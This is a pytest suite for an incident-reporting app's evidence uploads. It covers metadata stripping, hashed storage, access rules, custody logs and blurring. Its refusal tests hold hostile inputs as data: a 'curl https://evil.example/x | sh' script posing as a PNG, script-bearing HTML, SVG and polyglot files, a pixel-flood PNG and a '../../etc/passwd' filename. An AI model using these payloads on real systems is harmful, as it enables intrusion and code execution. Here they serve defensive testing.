"""Evidence files: refused unless their content is an accepted type, stored by SHA-256 outside static/,
shown as copies without metadata, the sealed originals to insiders only, every access in the custody log."""

import hashlib
import io
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image, ImageFile, PngImagePlugin
from sqlalchemy import select

from app.config import PROJECT_ROOT
from app.core import storage, uploads
from app.extensions import db
from app.incidents import services
from app.incidents.models import Evidence
from tests.helpers import audit_entries, stored_files, stored_path
from tests.maintenance.samples import gif, polyglots

GPS_IFD, EXIF_IFD, MAKER_NOTE = 0x8825, 0x8769, 0x927C
XMP = '<x:xmpmeta xmlns:x="adobe:ns:meta/">Photographer Amina Diallo</x:xmpmeta>'
HTML = b"<!DOCTYPE html><html><body><script>fetch('/account/tokens')</script></body></html>"


def camera_exif(orientation: int | None = None) -> Image.Exif:
    """What a phone writes: maker and model, a maker note, the place the photo was taken."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "SecretCam", "Model 7"
    if orientation:
        exif[0x0112] = orientation
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (6.0, 27.0, 14.0), 3: "E", 4: (3.0, 23.0, 41.0)})
    exif.get_ifd(EXIF_IFD)[MAKER_NOTE] = b"SECRET-MAKER-NOTE"
    return exif


def photo(fmt="JPEG", size=(64, 48), color=(200, 30, 30), orientation=None) -> bytes:
    """An image in ``fmt`` carrying GPS EXIF and whatever else the format can hold about its author."""
    extra = {
        "JPEG": {"comment": b"Taken by Amina Diallo", "xmp": XMP.encode()},
        "WEBP": {"xmp": XMP.encode()},
        "PNG": {"pnginfo": PngImagePlugin.PngInfo()},
    }[fmt]
    if fmt == "PNG":
        extra["pnginfo"].add_text("Author", "Amina Diallo")
        extra["pnginfo"].add_itxt("XML:com.adobe.xmp", XMP)
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, fmt, exif=camera_exif(orientation), **extra)
    return out.getvalue()


def noise_jpeg(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, "JPEG")
    return out.getvalue()


def png_header_claiming(width: int, height: int) -> bytes:
    """A few hundred bytes that announce a gigantic image: a pixel flood."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\x00" * 4096))
        + chunk(b"IEND", b"")
    )


def upload(client, incident, data: bytes, name="photo.jpg", **fields):
    return client.post(
        f"/incidents/{incident.reference}/evidence/file",
        data={"file": (io.BytesIO(data), name)} | fields,
        content_type="multipart/form-data",
    )


def fetch(client, path: str):
    """GET a file, read and closed at once (send_file's open handle would otherwise outlive the test)."""
    return client.get(path, buffered=True)


pytestmark = pytest.mark.usefixtures("evidence_dir")  # files go to a folder of this test


def url(incident, item, kind="view") -> str:
    return f"/incidents/{incident.reference}/evidence/{item.id}/{kind}"


# Metadata and the sealed original


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_display_copy_has_no_exif_gps_maker_note_comment_or_xmp(login, shared_incident, fmt):
    assert upload(login("member_a"), shared_incident, photo(fmt)).status_code == 302
    item = db.session.scalar(select(Evidence))
    body = fetch(login("member_b"), url(shared_incident, item)).data
    copy = Image.open(io.BytesIO(body))
    assert dict(copy.getexif()) == {} and not copy.getexif().get_ifd(GPS_IFD)
    assert not {"exif", "xmp", "comment", "Author", "XML:com.adobe.xmp"} & set(copy.info)
    for secret in (b"SecretCam", b"Model 7", b"SECRET-MAKER-NOTE", b"Amina", b"Exif"):
        assert secret not in body
    assert copy.size == (64, 48)


def test_sealed_original_keeps_its_bytes_gps_and_sha256(login, shared_incident, evidence_dir):
    data = photo()
    upload(login("member_a"), shared_incident, data)
    item = db.session.scalar(select(Evidence))
    assert item.sha256 == hashlib.sha256(data).hexdigest() != item.display_sha256
    assert stored_path(item.sha256).read_bytes() == data
    body = fetch(login("member_a"), url(shared_incident, item, "original")).data
    assert body == data and Image.open(io.BytesIO(body)).getexif().get_ifd(GPS_IFD)[1] == "N"


def test_display_copy_is_turned_upright_before_the_orientation_tag_is_dropped(login, shared_incident):
    upload(login("member_a"), shared_incident, photo(orientation=6))
    item = db.session.scalar(select(Evidence))
    assert Image.open(io.BytesIO(fetch(login("member_a"), url(shared_incident, item)).data)).size == (48, 64)


def test_same_bytes_on_another_incident_get_the_same_hash_and_one_stored_file(
    personas, incident_factory, shared_incident, attach, evidence_dir
):
    data = photo()
    first = attach(shared_incident, data)
    second = attach(incident_factory(personas["member_a"]), data)
    assert first.sha256 == second.sha256 == hashlib.sha256(data).hexdigest()
    assert stored_files(evidence_dir) == {stored_path(first.sha256), stored_path(first.display_sha256)}


# What is refused

MARKUP_REFUSED = "The file also contains web page code (HTML or a script)"


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("photo.jpg", HTML, "This kind of file is not accepted."),
        ("file.jpg.html", HTML, "This kind of file is not accepted."),
        (
            "image.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "This kind of file is not accepted.",
        ),
        ("photo.png", b"#!/bin/sh\ncurl https://evil.example/x | sh\n", "This kind of file is not accepted."),
        ("setup.exe", b"MZ\x90\x00" + b"\x00" * 200, "This kind of file is not accepted."),
        ("empty.jpg", b"", "The file is empty."),
        ("cut.jpg", noise_jpeg()[:600], "The file could not be read; it may be damaged."),
        ("polyglot.gif", b"GIF89a" + HTML, MARKUP_REFUSED),
    ],
)
def test_file_that_is_not_an_accepted_image_pdf_or_video_is_refused(
    login, shared_incident, evidence_dir, name, data, message
):
    response = upload(login("member_a"), shared_incident, data, name=name)
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert db.session.scalar(select(Evidence)) is None and stored_files(evidence_dir) == set()


@pytest.mark.parametrize("kind", polyglots())
def test_polyglot_that_is_a_valid_gif_or_pdf_and_a_web_page_is_refused_keeping_what_was_typed(
    login, shared_incident, evidence_dir, kind
):
    response = upload(
        login("member_a"),
        shared_incident,
        polyglots()[kind],
        name="screenshot.gif",
        description="Threat posted under the video",
        is_public="y",
    )
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert MARKUP_REFUSED in page
    assert (
        'value="Threat posted under the video"' in page
        and '<input checked id="file-is_public" name="is_public"' in page
    )
    assert db.session.scalar(select(Evidence)) is None and stored_files(evidence_dir) == set()


@pytest.mark.parametrize(
    ("data", "media_type"),
    [
        (gif(), "image/gif"),
        (gif(comment=b"Taken at the rally"), "image/gif"),
        (b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "application/pdf"),
    ],
)
def test_clean_gif_and_pdf_are_still_accepted(login, shared_incident, data, media_type):
    assert upload(login("member_a"), shared_incident, data, name="file.gif").status_code == 302
    assert db.session.scalar(select(Evidence.media_type)) == media_type


def test_image_with_damaged_metadata_is_refused_not_a_server_error(login, shared_incident):
    data = photo("WEBP").replace(b"MM\x00*\x00\x00\x00\x08", b"MX\x00*\x00\x00\x00\x08")
    response = upload(login("member_a"), shared_incident, data, name="damaged.webp")
    assert response.status_code == 422 and db.session.scalar(select(Evidence)) is None


def test_file_larger_than_max_evidence_bytes_is_refused(app, login, shared_incident, evidence_dir):
    app.config["MAX_EVIDENCE_BYTES"] = 1024
    data = noise_jpeg()
    assert len(data) > 1024
    response = upload(login("member_a"), shared_incident, data)
    assert response.status_code == 422 and "larger than this site accepts" in response.get_data(as_text=True)
    assert stored_files(evidence_dir) == set()


def test_request_over_max_content_length_is_answered_413(app, login, shared_incident, evidence_dir):
    app.config["MAX_CONTENT_LENGTH"] = 4096
    assert upload(login("member_a"), shared_incident, noise_jpeg((200, 200))).status_code == 413
    assert stored_files(evidence_dir) == set()


def test_pixel_flood_is_refused_from_the_header_without_decoding(app, login, shared_incident, monkeypatch):
    decoded = []
    original_load = ImageFile.ImageFile.load
    monkeypatch.setattr(ImageFile.ImageFile, "load", lambda image: decoded.append(image) or original_load(image))
    client = login("member_a")
    for data in (png_header_claiming(100_000, 100_000), png_header_claiming(7072, 7072)):
        response = upload(client, shared_incident, data, name="flood.png")
        assert response.status_code == 422 and "too many pixels" in response.get_data(as_text=True)
    assert decoded == [] and db.session.scalar(select(Evidence)) is None


def test_small_file_with_more_pixels_than_max_image_pixels_is_refused(app, shared_incident):
    app.config["MAX_IMAGE_PIXELS"] = 1_000_000
    out = io.BytesIO()
    Image.new("1", (2000, 2000)).save(out, "PNG")
    with pytest.raises(uploads.UploadRejected) as refused:
        uploads.prepare_upload(io.BytesIO(out.getvalue()))
    assert refused.value.code == "image_too_large" and len(out.getvalue()) < 10_000


# Where files live and the names they go out under


def test_client_filename_never_reaches_the_disk_or_the_download_name(login, shared_incident, evidence_dir, tmp_path):
    upload(login("member_a"), shared_incident, photo(), name="../../etc/passwd.jpg")
    item = db.session.scalar(select(Evidence))
    assert {path for path in tmp_path.rglob("*") if path.is_file()} == {
        evidence_dir / item.sha256[:2] / item.sha256,
        evidence_dir / item.display_sha256[:2] / item.display_sha256,
    }
    disposition = fetch(login("member_a"), url(shared_incident, item, "original")).headers["Content-Disposition"]
    assert disposition == f"attachment; filename={shared_incident.reference}-evidence-{item.id}.jpg"


def test_evidence_is_stored_in_the_instance_folder_outside_static_by_default(app):
    app.config["EVIDENCE_DIR"] = None
    root = storage.storage_root().resolve()
    assert root == (Path(app.instance_path) / "evidence").resolve()
    for static in (PROJECT_ROOT / "static", Path(app.static_folder)):
        assert not root.is_relative_to(static.resolve())


@pytest.mark.parametrize("name", ["../../etc/passwd", "A" * 64, "0" * 63, "0" * 64 + "/.."])
def test_storage_paths_are_only_ever_built_from_a_sha256(app, name):
    with pytest.raises(ValueError):
        stored_path(name)


# Who gets which file


def test_filing_organization_downloads_the_original_as_a_sandboxed_attachment(login, shared_incident, attach):
    data = photo()
    item = attach(shared_incident, data)
    for persona in ("member_a", "signatory_a"):
        response = fetch(login(persona), url(shared_incident, item, "original"))
        assert response.status_code == 200 and response.data == data and response.mimetype == "image/jpeg"
        assert response.headers["Content-Disposition"].startswith("attachment;")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Security-Policy"].startswith("sandbox;")
        assert "no-store" in response.headers["Cache-Control"]


def test_steering_reviewers_download_the_original_of_a_submitted_incident(login, personas, incident_factory, attach):
    incident = incident_factory(personas["member_a"], status="submitted")
    item = attach(incident, photo())
    assert fetch(login("steering"), url(incident, item, "original")).status_code == 200


def test_other_members_and_the_public_never_get_the_original(login, shared_incident, public, attach):
    item, public_item = attach(shared_incident, photo()), attach(public, photo(color=(1, 2, 3)), is_public=True)
    assert fetch(login("member_b"), url(shared_incident, item, "original")).status_code == 404
    assert fetch(login("member_b"), url(public, public_item, "original")).status_code == 404
    for persona in (None, "deactivated"):
        response = fetch(login(persona), url(public, public_item, "original"))
        assert response.status_code == 302 and "/sign-in" in response.headers["Location"]
    assert audit_entries("evidence_downloaded") == []


def test_display_copy_of_a_shared_incident_goes_to_members_not_the_public(login, shared_incident, attach):
    item = attach(shared_incident, photo())
    response = fetch(login("member_b"), url(shared_incident, item))
    assert response.status_code == 200 and response.mimetype == "image/jpeg"
    assert (
        response.headers["Content-Disposition"]
        == f"inline; filename={shared_incident.reference}-evidence-{item.id}.jpg"
    )
    assert response.headers["Content-Security-Policy"].startswith("sandbox;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert fetch(login(None), url(shared_incident, item)).status_code == 404
    assert fetch(login("deactivated"), url(shared_incident, item)).status_code == 404


def test_evidence_of_a_draft_is_hidden_from_reviewers_and_other_members(login, personas, incident_factory, attach):
    draft = incident_factory(personas["member_a"], status="draft")
    item = attach(draft, photo())
    for persona in ("steering", "member_b"):
        assert fetch(login(persona), url(draft, item)).status_code == 404
        assert fetch(login(persona), url(draft, item, "original")).status_code == 404


def test_public_sees_only_public_evidence_of_a_published_public_incident(login, public, attach):
    shown, private = attach(public, photo(), is_public=True), attach(public, photo(color=(9, 9, 9)))
    anonymous = login(None)
    response = fetch(anonymous, url(public, shown))
    assert response.status_code == 200 and response.headers["Cache-Control"] == "private, no-store"
    assert fetch(anonymous, url(public, private)).status_code == 404
    page = anonymous.get(f"/public/incidents/{public.reference}").get_data(as_text=True)
    assert url(public, shown) in page and url(public, private) not in page and private.sha256 not in page


def test_withdrawn_evidence_leaves_the_public_site_but_stays_for_members(login, public, attach):
    item = attach(public, photo(), is_public=True)
    login("member_a").post(
        url(public, item, "withdraw"), data={"confirmed": "1", "reason": "It shows the victim's face"}
    )
    assert fetch(login(None), url(public, item)).status_code == 404
    assert url(public, item) not in login(None).get(f"/public/incidents/{public.reference}").get_data(as_text=True)
    assert fetch(login("member_b"), url(public, item)).status_code == 200


@pytest.mark.parametrize(
    ("data", "media_type"),
    [
        (b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "application/pdf"),
        (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(64), "video/mp4"),
        (b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  " + bytes(64), "video/quicktime"),
        (
            b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webmB\x87\x81\x04"
            b"B\x85\x81\x02" + bytes(64),
            "video/webm",
        ),
    ],
)
def test_pdf_and_video_whose_metadata_cannot_be_removed_are_for_insiders_only(
    login, shared_incident, attach, data, media_type
):
    item = attach(shared_incident, data)
    assert item.media_type == media_type and item.display_sha256 is None and item.display_problem == "unreadable"
    response = fetch(login("member_a"), url(shared_incident, item))
    assert response.mimetype == media_type and response.data == data
    assert fetch(login("member_b"), url(shared_incident, item)).status_code == 404


def test_evidence_cannot_be_reached_through_another_incidents_reference(
    login, personas, shared_incident, incident_factory, attach
):
    other = incident_factory(personas["member_b"], status="draft")
    item = services.add_file_evidence(personas["member_b"], other, uploads.prepare_upload(io.BytesIO(photo())))
    db.session.commit()
    assert fetch(login("member_a"), url(shared_incident, item)).status_code == 404
    assert fetch(login("member_a"), url(shared_incident, item, "original")).status_code == 404


# Custody, integrity, withdrawal


def test_each_view_and_download_is_written_to_the_custody_log(login, personas, public, attach):
    item = attach(public, photo(), is_public=True)
    fetch(login("member_b"), url(public, item))
    fetch(login(None), url(public, item))
    fetch(login("member_a"), url(public, item, "original"))
    expected = {"evidence_id": item.id, "sha256": item.sha256}
    viewed, downloaded = audit_entries("evidence_viewed"), audit_entries("evidence_downloaded")
    assert [(entry.actor_id, entry.details) for entry in viewed] == [
        (personas["member_b"].id, expected),
        (None, expected),
    ]
    assert [(entry.actor_id, entry.details) for entry in downloaded] == [(personas["member_a"].id, expected)]
    assert {entry.object_id for entry in viewed + downloaded} == {str(public.id)}


def test_check_reports_an_intact_file_then_tampering(login, shared_incident, attach):
    item = attach(shared_incident, photo())
    client = login("member_a")
    page = client.post(url(shared_incident, item, "check"), follow_redirects=True).get_data(as_text=True)
    assert "The file is intact" in page
    stored_path(item.sha256).write_bytes(photo(color=(0, 0, 0)))
    page = client.post(url(shared_incident, item, "check"), follow_redirects=True).get_data(as_text=True)
    assert "no longer matches the SHA-256 recorded at upload" in page
    stored_path(item.sha256).unlink()
    page = client.post(url(shared_incident, item, "check"), follow_redirects=True).get_data(as_text=True)
    assert "no longer matches the SHA-256 recorded at upload" in page


def test_withdrawing_keeps_the_row_and_the_file_and_shows_withdrawn(login, shared_incident, attach):
    item = attach(shared_incident, photo())
    response = login("member_a").post(
        url(shared_incident, item, "withdraw"), data={"confirmed": "1", "reason": "Wrong incident"}
    )
    assert response.status_code == 302
    item = db.session.get(Evidence, item.id)
    assert item.withdrawn_at is not None and item.withdrawn_reason == "Wrong incident"
    assert stored_path(item.sha256).exists() and stored_path(item.display_sha256).exists()
    page = login("member_b").get(f"/incidents/{shared_incident.reference}").get_data(as_text=True)
    assert "Withdrawn" in page and "Wrong incident" in page and item.sha256 in page
    assert [entry.details for entry in audit_entries("evidence_withdrawn")] == [{"evidence_id": item.id}]


def test_withdrawal_needs_a_reason_and_the_filing_organization(login, shared_incident, attach):
    item = attach(shared_incident, photo())
    login("member_a").post(url(shared_incident, item, "withdraw"), data={"reason": ""})
    assert (
        login("member_b").post(url(shared_incident, item, "withdraw"), data={"reason": "Mine now"}).status_code == 403
    )
    assert db.session.get(Evidence, item.id).withdrawn_at is None


# Duplicates


def test_same_file_twice_on_one_incident_is_refused(login, shared_incident):
    client = login("member_a")
    upload(client, shared_incident, photo())
    response = upload(client, shared_incident, photo(), name="again.jpg")
    assert "already part of this incident" in client.get(response.headers["Location"]).get_data(as_text=True)
    assert len(db.session.scalars(select(Evidence)).all()) == 1


def test_file_on_another_visible_incident_shows_a_409_page_until_confirmed(
    login, personas, shared_incident, incident_factory, attach
):
    attach(shared_incident, photo())
    mine = incident_factory(personas["member_b"], title="Same photo, other post")
    client = login("member_b")
    response = upload(client, mine, photo())
    assert response.status_code == 409
    assert shared_incident.reference in response.get_data(as_text=True) and shared_incident.title in response.get_data(
        as_text=True
    )
    assert not db.session.scalars(select(Evidence).where(Evidence.incident_id == mine.id)).all()
    assert upload(client, mine, photo(), confirm_duplicates="y").status_code == 302
    added = db.session.scalar(select(Evidence).where(Evidence.incident_id == mine.id))
    assert added.sha256 == hashlib.sha256(photo()).hexdigest()


def test_file_on_an_incident_the_uploader_cannot_see_is_not_revealed(login, personas, incident_factory, attach):
    attach(incident_factory(personas["member_a"], status="draft"), photo())
    mine = incident_factory(personas["member_b"])
    assert upload(login("member_b"), mine, photo()).status_code == 302
    assert db.session.scalar(select(Evidence).where(Evidence.incident_id == mine.id)) is not None


def test_only_the_filing_organization_uploads(login, personas, shared_incident, incident_factory):
    assert upload(login("member_b"), shared_incident, photo()).status_code == 403
    draft = incident_factory(personas["member_a"], status="draft")
    assert upload(login("member_b"), draft, photo()).status_code == 404
    assert db.session.scalar(select(Evidence)) is None


# Trauma-aware viewing


def test_images_of_a_graphic_incident_are_blurred_until_revealed(login, personas, incident_factory, attach):
    graphic = incident_factory(personas["member_a"], status="published", visibility="public", is_graphic=True)
    item = attach(graphic, photo(), is_public=True)
    for page in (
        login("member_b").get(f"/incidents/{graphic.reference}"),
        login(None).get(f"/public/incidents/{graphic.reference}"),
    ):
        html = page.get_data(as_text=True)
        start = html.index('<details class="blurred-evidence">')
        assert url(graphic, item) in html[start : html.index("</details>", start)]
        assert 'class="evidence-image"' not in html


def test_person_who_asked_for_blurring_sees_every_image_blurred(login, personas, shared_incident, attach):
    attach(shared_incident, photo())
    personas["member_b"].blur_evidence = True
    db.session.commit()
    assert '<details class="blurred-evidence">' in login("member_b").get(
        f"/incidents/{shared_incident.reference}"
    ).get_data(as_text=True)
    unblurred = login("member_a").get(f"/incidents/{shared_incident.reference}").get_data(as_text=True)
    assert 'class="evidence-image"' in unblurred and "blurred-evidence" not in unblurred
